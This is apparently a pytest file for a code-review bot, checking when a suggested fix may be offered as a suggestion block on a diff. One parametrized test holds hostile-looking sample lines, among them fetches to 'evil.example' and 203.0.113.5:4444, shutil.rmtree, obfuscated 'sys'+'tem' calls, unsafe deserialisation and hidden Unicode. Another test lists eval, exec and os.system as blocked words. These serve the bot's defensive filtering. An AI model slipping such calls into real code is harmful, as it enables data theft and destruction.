import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report import samples
from report.hostility import PIECES, hostile_text
from report.markdown_page import nodes

from reviewbot.change import parse_diff
from reviewbot.report.comment import render_comment
from reviewbot.report.suggestion import MAX_WIDTH, suggestion_of

LINES = (
    "def total(order, timeout=10):",
    "    items = order.items",
    "    value = sum(item.price for item in items if item.quantity)",
    "    lines = fetch(order, timeout=10)",
    "    move(order.payer, order.seller)",
    "    if value < 0:",
    "        raise Negative(value)",
    "    return round(value)",
)
"""Lines 10 to 17 of a file."""


def diff_of(lines=LINES, path="shop/order.py", mode="100644", removed=()):
    body = [f"-{line}" for line in removed] + [f"+{line}" for line in lines]
    text = (
        f"diff --git a/{path} b/{path}\nindex 1111111..2222222 {mode}\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -10,{len(removed)} +10,{len(lines)} @@\n" + "\n".join(body) + "\n"
    )
    return parse_diff(text.encode())


def finding(fix, **more):
    values = {"path": "shop/order.py", "start_line": 12, "line": 12, "fix": fix}
    return samples.finding(**(values | more))


def fenced(code, info="python"):
    return f"Count the quantity too:\n```{info}\n{code}\n```"


def offered(line, code, **more):
    return suggestion_of(finding(fenced(code), start_line=line, line=line), diff_of(**more))


GOOD = "    value = sum(item.price * item.quantity for item in items if item.quantity)"


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (12, GOOD), (11, "    items = fetch(order.items)"), (13, "    lines = fetch(order)"),
        (13, "    lines = fetch(order, order.seller, timeout=10)"), (14, "    move(order.seller, order.payer)"),
        (15, "    if value <= 0:"), (15, "    if not value < 1:"), (17, "    return round(value, 2)"),
    ],
)  # fmt: skip
def test_an_honest_small_fix_is_offered(line, code):
    assert offered(line, code) == code


def test_code_that_was_moved_to_the_left_goes_back_to_its_place():
    assert offered(12, GOOD.strip()) == GOOD


def test_lines_may_be_added_around_those_that_stay():
    fix = fenced("items = order.items\n\nif not items:\n    return 0\nvalue = sum(item.price for item in items)")
    found = suggestion_of(finding(fix, start_line=11, line=12), diff_of())
    assert found is not None
    assert [line.removeprefix("    ") for line in found.split("\n")] == fix.split("\n")[2:-1]


def test_a_check_that_the_change_removed_may_come_back():
    code = "    assert order.items\n    items = order.items"
    assert offered(11, code) is None
    assert offered(11, code, removed=("    assert order.items",)) == code


@pytest.mark.parametrize(
    "fix",
    [
        None, "", "Multiply by the quantity.", GOOD, f"{fenced(GOOD)}\nor\n{fenced(GOOD)}", "```\n\n```",
        f"`{GOOD.strip()}`", "value = sum(item.price for item in items) or raise", fenced(f"{GOOD}\n...\n"),
    ],
)  # fmt: skip
def test_words_a_choice_or_a_part_are_no_suggestion(fix):
    assert suggestion_of(finding(fix), diff_of()) is None


@pytest.mark.parametrize(
    ("info", "is_code"), [("", True), ("py", True), *((word, False) for word in ("diff", "text", "sql", "sh", "js"))]
)
def test_a_fence_that_names_another_language_holds_something_else(info, is_code):
    assert (suggestion_of(finding(fenced(GOOD, info)), diff_of()) is not None) is is_code


@pytest.mark.parametrize(
    "code",
    [
        "value = 1", "timeout = 10", "raise Negative(value)", "def total(order):\n    return value",
        "items = order.items\nlines = fetch(order, timeout=10)",
    ],
)  # fmt: skip
def test_code_for_elsewhere_takes_no_line_away(code):
    assert suggestion_of(finding(fenced(code), start_line=12, line=14), diff_of()) is None


@pytest.mark.parametrize(("more", "is_offered"), [(5, True), (6, False)])
def test_it_adds_at_most_five_lines(more, is_offered):
    code = "\n".join([GOOD, *["    items = order.items"] * more])
    assert (offered(12, code) is not None) is is_offered


def test_what_stands_there_already_is_no_suggestion():
    assert offered(12, LINES[2]) is None
    assert offered(12, LINES[2] + "  ") is None


@pytest.mark.parametrize(
    "code",
    [
        'os.execl("/bin/x", "x")', 'os.spawnlp(os.P_NOWAIT, "x")', "marshal.loads(order)", "jsonpickle.decode(order)",
        'getattr(order, "sys" + "tem")(order)', 'compile(order, "", "single")', 'fetch("//evil.example/x")',
        'fetch("http:" + "//evil.example/x")', 'fetch(("203.0.113.5", 4444))', "fetch(order, verify=False)",
        'fetch(order) if order.payer != "mallory" else 0', "shutil.rmtree(order)", "b64decode(order)",
        "fetch(order, timeout=9999)", "fetch(order, timeout=10)  # nosec", f"fetch(order){' ' * 9}; move()",
        "fetch(order) // round(order)", "fetch(order, timeout=10) + f'{order}'", "fetch(order, 'timeout=10)",
        "fetch(\u043erder, timeout=10)", "fetch(order,\ttimeout=10)", "fetch(order, timeout=10)\x0b", "fetch(`order`)",
        "fetch(order, ...)", "fetch(order, '<SECRET:github:1>')", "fetch(order<U+200B>)",
        f"fetch({', '.join(['order'] * 20)})",
    ],
)  # fmt: skip
def test_nothing_that_does_not_stand_in_the_change_is_offered(code):
    assert offered(13, f"    lines = {code}") is None


@pytest.mark.parametrize("word", ["eval", "exec", "os.system", "subprocess.run", "child_process.execSync", "unsafe"])
def test_what_loads_or_runs_is_not_offered_though_it_stands_in_the_change(word):
    assert offered(13, f"    lines = {word}(order)", lines=(*LINES, f"    {word}(order)")) is None


def test_words_of_a_string_or_a_comment_are_no_names():
    text = (*LINES, "    # or else drop(order)", '    log("drop")')
    assert offered(13, "    lines = drop(order, timeout=10)", lines=text) is None
    assert offered(13, "    lines = fetch(order, 'drop')", lines=text) is None
    assert offered(13, '    lines = fetch(order, "drop")', lines=text) is not None


def test_a_line_nobody_sees_the_end_of_gets_none():
    long = f"    lines = fetch({', '.join(['order'] * 13)})"
    assert len(long) < MAX_WIDTH
    assert offered(13, long, lines=(*LINES[:3], long.replace("order,", "items,", 1), "    items = order")) is not None
    assert offered(13, long, lines=(*LINES[:3], long.replace("order,", "items,", 1) + " " * 90 + ";", "")) is None


@given(hostile_text | st.sampled_from(PIECES))
@settings(max_examples=25, deadline=None)
def test_whatever_a_fix_holds_what_is_offered_is_one_block_of_exactly_these_lines(text):
    found = finding(fenced(f"{GOOD} {text}"))
    suggestion = suggestion_of(found, diff_of())
    page = render_comment(found, report=samples.council(), suggestion=suggestion)
    blocks = [node.content for node in nodes(page) if node.info == "suggestion"]
    assert blocks == ([] if suggestion is None else [f"{suggestion}\n"])


def test_an_inner_fence_cannot_open_a_suggestion_of_its_own():
    fix = f"````\n{GOOD}\n```suggestion\n    items = order\n```\n````"
    assert suggestion_of(finding(fix), diff_of()) is None


def test_a_letter_that_stands_there_already_may_stay():
    text = (*LINES[:3], "    lines = fetch(order, Zo\u00eb)")
    assert offered(13, "    lines = fetch(Zo\u00eb, order)", lines=text) is not None
    assert offered(13, "    lines = fetch(Zo\u00eb, \u00f6rder)", lines=text) is None


@pytest.mark.parametrize(
    "path", ["Makefile", "shop/settings.py", ".github/x.py", "hooks/order.py", "order.yml", "x.sh"]
)
def test_files_that_a_machine_obeys_get_no_suggestion(path):
    assert suggestion_of(finding(fenced(GOOD, ""), path=path), diff_of(path=path)) is None


@pytest.mark.parametrize("mode", ["100755", "120000", "160000"])
def test_executables_and_links_get_no_suggestion(mode):
    assert offered(12, GOOD, mode=mode) is None


@pytest.mark.parametrize(
    "more",
    [
        {"side": "old"}, {"line": None, "start_line": None}, {"line": 99, "start_line": 99}, {"path": "other.py"},
        {"start_line": 9}, {"line": 18},
    ],
)  # fmt: skip
def test_it_must_stand_on_lines_that_one_hunk_shows(more):
    assert suggestion_of(finding(fenced(GOOD), **more), diff_of()) is None


def test_lines_of_two_hunks_are_not_one_place():
    text = (
        "diff --git a/shop/order.py b/shop/order.py\n--- a/shop/order.py\n+++ b/shop/order.py\n"
        "@@ -11,0 +12,1 @@\n+    value = 1\n@@ -12,0 +14,1 @@\n+    value = 3\n"
    )
    assert suggestion_of(finding(fenced("    value = 3"), line=14), parse_diff(text.encode())) is None
    assert suggestion_of(finding(fenced("    value = 3")), parse_diff(text.encode())) == "    value = 3"


@pytest.mark.parametrize("current", ["    value = 1\r", "    value = '<SECRET:aws:1>'", "    value = '\u200b'"])
def test_a_line_that_cannot_be_shown_as_it_is_gets_no_suggestion(current):
    assert offered(12, "    value = 2", lines=(*LINES[:2], current, LINES[3])) is None
